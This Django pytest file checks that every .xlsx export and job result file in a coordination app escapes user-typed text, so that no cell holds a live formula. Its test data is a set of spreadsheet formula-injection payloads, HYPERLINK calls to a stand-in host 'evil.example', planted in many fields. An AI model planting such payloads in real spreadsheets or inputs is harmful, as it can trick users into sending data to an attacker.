"""Formula injection (issue 14): text typed into any field that reaches an .xlsx download is
written as text, never as a live formula, in every workbook the app hands out — the page
downloads and the background jobs' result files alike."""

import datetime
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from agencies.models import Agency
from cooperatives.tests.factories import CooperativeFactory
from coordination import services as coordination_services
from coordination.models import Indicator, Program, TaskArea
from coordination.tests.factories import make_activity
from core.models import Job
from core.tests.helpers import run_worker
from reporting.reports import services
from reporting.reports.models import Commendation

pytestmark = pytest.mark.django_db(transaction=True, serialized_rollback=True)

STARTS = ("=", "+", "-", "@", "\t", "\r")


def payload(start: str, field: str) -> str:
    return f'{start}HYPERLINK("http://evil.example/?{field}","bấm vào")'


def assert_no_formula(content: bytes, where: str) -> int:
    """No cell of the workbook holds a formula or text that starts like one; returns how many
    escaped payloads it holds (so a download that left the data out cannot pass unseen)."""
    book = load_workbook(io.BytesIO(content))
    escaped = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(STARTS), (where, cell.coordinate, cell.value)
                    escaped += cell.value.startswith("'") and "evil.example" in cell.value
    return escaped


def job_file(client, response) -> bytes:
    job = Job.objects.order_by("-pk").first()
    assert response.status_code == 302 and response.url == job.get_absolute_url()
    run_worker()
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED, job.error
    return b"".join(client.get(reverse("core:job_file", args=[job.pk])).streaming_content)


def test_no_download_holds_a_formula_whatever_was_typed(client, world):
    w = world
    Program.objects.filter(pk=w.program.pk).update(title=payload("=", "program"))
    TaskArea.objects.filter(program=w.program).update(title=payload("+", "area"))
    for agency, start in [(w.ethnic_old, "-"), (w.ethnic, "@"), (w.alliance, "\t")]:
        Agency.objects.filter(pk=agency.pk).update(name=payload(start, "agency"))
    indicator = coordination_services.indicator_create(
        program=w.program,
        code="+1",
        name=payload("=", "indicator"),
        unit=payload("@", "unit"),
        aggregation=Indicator.Aggregation.SUM,
        task_area=w.program.task_areas.get(number=1),
        targets={w.program.phases.get(number=1): "≥ 3"},
    )
    coop = CooperativeFactory(
        name=payload("=", "coop"),
        sector=payload("-", "sector"),
        commune=payload("\r", "commune"),
        province=w.binh_phuoc,
    )
    activity = make_activity(
        w.plan,
        lead_agency=w.ethnic_old,
        title=payload("=", "activity"),
        indicator=indicator,
        target_value=2,
        cooperatives=[coop],
    )
    coordination_services.progress_record(
        activity=activity,
        reported_on=datetime.date(2024, 6, 1),
        status="in_progress",
        percent=40,
        budget_spent=1_000_000,
        actual_value=1,
        note=payload("@", "note"),
        author=w.staff,
    )
    for kind, extra in [
        ("person", {"person_name": payload("=", "person"), "person_position": payload("-", "p")}),
        ("cooperative", {"cooperative": coop}),
    ]:
        services.commendation_save(
            commendation=Commendation(
                program=w.program,
                year=2024,
                recipient_kind=kind,
                form="bang_khen",
                authority=payload("+", "authority"),
                decision_number=payload("=", "decision"),
                decision_date=datetime.date(2024, 12, 20),
                reason=payload("@", "reason"),
                **extra,
            ),
            by=w.staff,
        )

    client.force_login(w.staff)
    downloads = {
        "activity list": client.get(reverse("reporting:activities"), {"year": "", "xlsx": "1"}),
        "cooperative list": client.get(reverse("reporting:cooperatives"), {"xlsx": "1"}),
        "cooperative export": client.get(reverse("cooperatives:export")),
        "yearly plan": client.get(reverse("coordination:plan_xlsx", args=[w.plan.pk])),
    }
    for page in [reverse("reporting:overview"), reverse("reporting:program", args=[w.program.pk])]:
        html = client.get(page, {"year": ""}).content.decode()
        keys = sorted(set(re.findall(r"xlsx=([\w-]+)", html)))
        assert {"overdue", "sectors"} <= set(keys) or page.endswith(f"/{w.program.pk}/"), keys
        for key in keys:
            downloads[f"{page} {key}"] = client.get(page, {"year": "", "xlsx": key})
    contents = {}
    for name, response in downloads.items():
        assert response.status_code == 200, name
        contents[name] = response.content

    contents["program export job"] = job_file(
        client, client.post(reverse("coordination:program_export"))
    )
    report = services.report_generate(
        program=w.program, kind="annual", year=2024, by=w.staff, today=datetime.date(2024, 12, 31)
    )
    contents["report appendix job"] = job_file(
        client, client.post(reverse("reporting:report_xlsx", args=[report.pk]))
    )

    escaped = {name: assert_no_formula(content, name) for name, content in contents.items()}
    # Tables of figures only may hold no text; those that list what people typed must.
    typed = ["activity list", "cooperative list", "cooperative export", "program export job"]
    typed += ["report appendix job", "/bao-cao/ overdue", "/bao-cao/ sectors"]
    assert all(escaped[name] for name in typed), escaped
    # The appendix carries every kind of field: activity, note, agency, cooperative, indicator
    # and the commendations.
    appendix = load_workbook(io.BytesIO(contents["report appendix job"]))
    text = {c for s in appendix.worksheets for r in s.iter_rows(values_only=True) for c in r}
    for field in ["activity", "note", "agency", "coop", "indicator", "authority", "reason"]:
        assert any(isinstance(c, str) and f'?{field}"' in c for c in text), field
